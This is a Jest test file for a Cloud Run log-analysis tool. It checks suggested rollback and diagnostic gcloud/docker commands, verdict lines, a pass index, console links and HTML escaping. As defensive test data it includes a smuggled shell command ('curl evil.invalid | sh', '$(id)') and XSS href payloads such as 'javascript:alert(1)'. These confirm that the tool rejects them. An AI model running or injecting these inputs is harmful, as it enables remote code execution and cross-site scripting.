import { mkdtemp } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "@jest/globals";
import { errorReportingUrl, revisionsPageUrl, traceUrl } from "../../shared/links/evidenceLinks.js";
import { pageHref } from "../../shared/links/worklogHref.js";
import { esc, safeHref } from "../../shared/worklog/htmlSafe.js";
import { nextSteps } from "../../shared/worklog/nextSteps.js";
import { stackedBars } from "../../shared/worklog/svgCharts.js";
import { verdictOf } from "../../shared/worklog/verdict.js";
import type { WorklogCluster, WorklogJson } from "../../shared/worklog/worklog.js";
import { indexRowOf, parseIndex, updateIndex } from "../../shared/worklog/worklogIndex.js";
import { runPass } from "../analysis/runPass.js";
import { SAMPLE_HOUR } from "../realdata/sharedData.js";

let sample: WorklogJson;
beforeAll(async () => {
  sample = (await runPass(SAMPLE_HOUR, await mkdtemp(join(tmpdir(), "lg-pieces-")))).json;
}, 60_000);

const copy = (w: WorklogJson): WorklogJson => structuredClone(w);

describe("next steps", () => {
  it("rolls back to the revision that served healthily before the one the failure started with", () => {
    const steps = nextSteps(sample);
    const rollback = steps.filter((s) => s.kind === "rollback");
    expect(rollback).toHaveLength(1);
    expect(rollback[0]?.incident).toBe("I1");
    expect(rollback[0]?.commands).toEqual(["gcloud run services update-traffic checkout-api --to-revisions=checkout-api-00041-kof=100 --region=us-central1 --project=acme-shop-prod"]);
    expect(rollback[0]?.fact).toMatch(/^Started with revision checkout-api-00042-vex: it became Ready at 2026-03-10 14:11:40 UTC, 21 s before the first failure\. /);
    expect(rollback[0]?.fact).toContain("checkout-api-00041-kof served 2,805 requests in this window, 18 (0.6%) failed with 5xx");
  });

  it("suggests no rollback when the earlier revision failed too, or when the failure did not start with a revision", () => {
    const sick = copy(sample);
    const old = sick.revisions.find((r) => r.name === "checkout-api-00041-kof");
    if (old?.requests) old.requests.failed5xx = Math.ceil(old.requests.total * 0.05);
    expect(nextSteps(sick).filter((s) => s.kind === "rollback")).toEqual([]);
    const notStarted = copy(sample);
    for (const i of notStarted.incidents) if (i.revision) i.revision.startedWith = false;
    expect(nextSteps(notStarted).filter((s) => s.kind === "rollback")).toEqual([]);
    const noRegion = copy(sample);
    delete noRegion.location;
    expect(nextSteps(noRegion).filter((s) => s.kind === "rollback")).toEqual([]);
  });

  it("finds the healthy revision in the previous worklog when this window has none", () => {
    const now = copy(sample);
    now.revisions = now.revisions.filter((r) => r.name !== "checkout-api-00041-kof");
    expect(nextSteps(now).filter((s) => s.kind === "rollback")).toEqual([]);
    const steps = nextSteps(now, sample).filter((s) => s.kind === "rollback");
    expect(steps[0]?.commands[0]).toContain("--to-revisions=checkout-api-00041-kof=100");
    expect(steps[0]?.fact).toContain("in the previous worklog's window");
  });

  it("checks the module the image lacks, with the exact import", () => {
    const step = nextSteps(sample).find((s) => s.kind === "missing-module");
    expect(step?.commands).toEqual([
      "IMAGE=$(gcloud run revisions describe checkout-api-00042-vex --region=us-central1 --project=acme-shop-prod --format='value(spec.containers[0].image)')",
      `docker run --rm --entrypoint python "$IMAGE" -c 'import checkout.payments.stripe_gateway'`,
    ]);
  });

  function withSample(text: string): WorklogJson {
    const w = copy(sample);
    const root = w.clusters.find((c) => c.id === w.incidents[2]?.rootCause) as WorklogCluster;
    root.samples = [text];
    return w;
  }

  it.each([
    ["google.api_core.exceptions.Forbidden: 403 Permission 'storage.objects.create' denied on resource", "permission-denied", "gcloud projects get-iam-policy acme-shop-prod"],
    ["NotFound: 404 Secret [projects/123/secrets/db-password] not found or has no versions.", "missing-secret", "gcloud secrets versions list db-password --project=acme-shop-prod"],
    [
      "PermissionDenied: 403 Cloud Firestore API has not been used in project 123 before or it is disabled. Enable it by visiting https://console.developers.google.com/apis/api/firestore.googleapis.com/overview?project=123 then retry.",
      "api-disabled",
      "gcloud services enable firestore.googleapis.com --project=acme-shop-prod",
    ],
    ["Error: Cannot find module 'express'\nRequire stack:\n- /app/index.js", "missing-module", `docker run --rm --entrypoint node "$IMAGE" -e 'require.resolve("express")'`],
  ])("states %s as a fact with its check command", (text, kind, command) => {
    const step = nextSteps(withSample(text)).find((s) => s.kind === kind && s.incident === "I3");
    expect(step?.clusters).toEqual([sample.incidents[2]?.rootCause]);
    expect(step?.commands.join("\n")).toContain(command);
  });

  it("puts no log text into a command that is not a plain name", () => {
    const steps = nextSteps(withSample("No module named 'x; curl evil.invalid | sh'\nPermission 'a.b$(id)' denied"));
    expect(steps.filter((s) => s.incident === "I3")).toEqual([]);
  });

  it("gives a quiet or healthy window no steps", () => {
    const quiet = copy(sample);
    quiet.incidents = [];
    expect(nextSteps(quiet)).toEqual([]);
  });
});

describe("verdict", () => {
  it("says what is wrong, since when, how many requests failed and why, in one line", () => {
    expect(verdictOf(sample).text).toBe("checkout-api degraded since 14:12 UTC: 23% of user requests failed, crash loop after deploy of revision checkout-api-00042-vex");
    const healthy = copy(sample);
    healthy.incidents = [];
    expect(verdictOf(healthy)).toMatchObject({ level: "healthy", text: "checkout-api healthy: 3,251 user requests, 23% failed, 6,170 entries, no incidents" });
    const quiet = copy(sample);
    quiet.totals.entries = 0;
    expect(verdictOf(quiet)).toMatchObject({ level: "quiet" });
  });
});

describe("index of passes", () => {
  const row = (end: string, worst?: "P0" | "P1") => ({ window: { start: new Date(Date.parse(end) - 3_600_000).toISOString(), end }, entries: 1, errors: 0, warnings: 0, incidents: worst ? { [worst]: 1 } : {}, ...(worst ? { worst } : {}), complete: true });

  it("replaces a retried window's row, keeps newest first, and drops passes older than 7 days", () => {
    let index = updateIndex(undefined, "svc", row("2026-03-01T01:00:00.000Z"));
    index = updateIndex(index, "svc", row("2026-03-07T23:00:00.000Z", "P1"));
    index = updateIndex(index, "svc", row("2026-03-08T02:00:00.000Z"));
    index = updateIndex(index, "svc", row("2026-03-08T02:00:00.000Z", "P0"));
    expect(index.rows.map((r) => [r.window.end, r.worst])).toEqual([
      ["2026-03-08T02:00:00.000Z", "P0"],
      ["2026-03-07T23:00:00.000Z", "P1"],
    ]);
  });

  it("counts a pass's errors with the lines that state ERROR in their text, and its worst priority", () => {
    const r = indexRowOf(sample);
    expect(r).toMatchObject({ entries: 6170, errors: 951 + 290, warnings: 175, incidents: { P0: 1, P1: 2 }, worst: "P0", complete: true });
  });

  it("says why an unreadable index is started again", () => {
    expect(parseIndex("{not json", "svc").problem).toMatch(/^index.json is not JSON/);
    expect(parseIndex(JSON.stringify({ schemaVersion: 1, service: "other", rows: [] }), "svc").problem).toBe("index.json is not a schemaVersion 1 index of svc");
    expect(parseIndex(JSON.stringify({ schemaVersion: 1, service: "svc", rows: [row("2026-03-08T02:00:00.000Z"), { junk: 1 }] }), "svc").index?.rows).toHaveLength(1);
  });
});

describe("links and safety", () => {
  it("builds console links from ids, and none without what they need", () => {
    const scope = { project: "p-1", service: "svc" };
    expect(traceUrl(scope, "projects/p-2/traces/0123456789abcdef0123456789abcdef")).toBe("https://console.cloud.google.com/traces/list?tid=0123456789abcdef0123456789abcdef&project=p-2");
    expect(traceUrl(scope, "javascript:alert(1)")).toBeUndefined();
    expect(errorReportingUrl(scope, "CJ3x(y)")).toBe("https://console.cloud.google.com/errors/detail/CJ3x%28y%29;service=svc?project=p-1");
    expect(revisionsPageUrl(scope)).toBeUndefined();
    expect(revisionsPageUrl({ ...scope, location: "europe-west1" })).toBe("https://console.cloud.google.com/run/detail/europe-west1/svc/revisions?project=p-1");
  });

  it("links worklog pages relatively, whatever page they are on", () => {
    const window = { start: "2026-03-10T14:00:00Z", end: "2026-03-10T15:00:00Z" };
    const prev = { start: "2026-03-09T23:00:00Z", end: "2026-03-10T00:00:00Z" };
    expect(pageHref("svc", { kind: "dated", window }, { kind: "dated", window: prev }, "html")).toBe("0000Z.html");
    expect(pageHref("svc", { kind: "dated", window }, { kind: "index" }, "html")).toBe("../../../index.html");
    expect(pageHref("svc", { kind: "index" }, { kind: "dated", window }, "html")).toBe("2026/03/10/1500Z.html");
  });

  it("lets only https and relative page links through, and escapes all text", () => {
    for (const bad of ["javascript:alert(1)", "JaVaScRiPt:x", "data:text/html,x", "//evil.invalid/x", "http://x.invalid/", "https://x.invalid/a\"onmouseover=x", "vbscript:x", "../", "a:b.html"]) {
      expect(safeHref(bad)).toBeUndefined();
    }
    expect(safeHref("../../../index.html")).toBe("../../../index.html");
    expect(safeHref("https://console.cloud.google.com/logs/query;query=a%22b")).toBe("https://console.cloud.google.com/logs/query;query=a%22b");
    expect(esc(`<a href="x" onclick='y'>&\u202E`)).toBe("&lt;a href=&quot;x&quot; onclick=&#39;y&#39;&gt;&amp;\\u{202E}");
  });

  it("draws one bucket per label, even empty ones", () => {
    const svg = stackedBars({ id: "t", title: "t", description: "d", series: [{ cls: "a", name: "a", values: [0, 3, 0] }], labels: ["x", "y", "z"] });
    expect(svg.match(/<g class="bucket">/g)).toHaveLength(3);
    expect(svg.match(/<rect class="a"/g)).toHaveLength(1);
  });
});
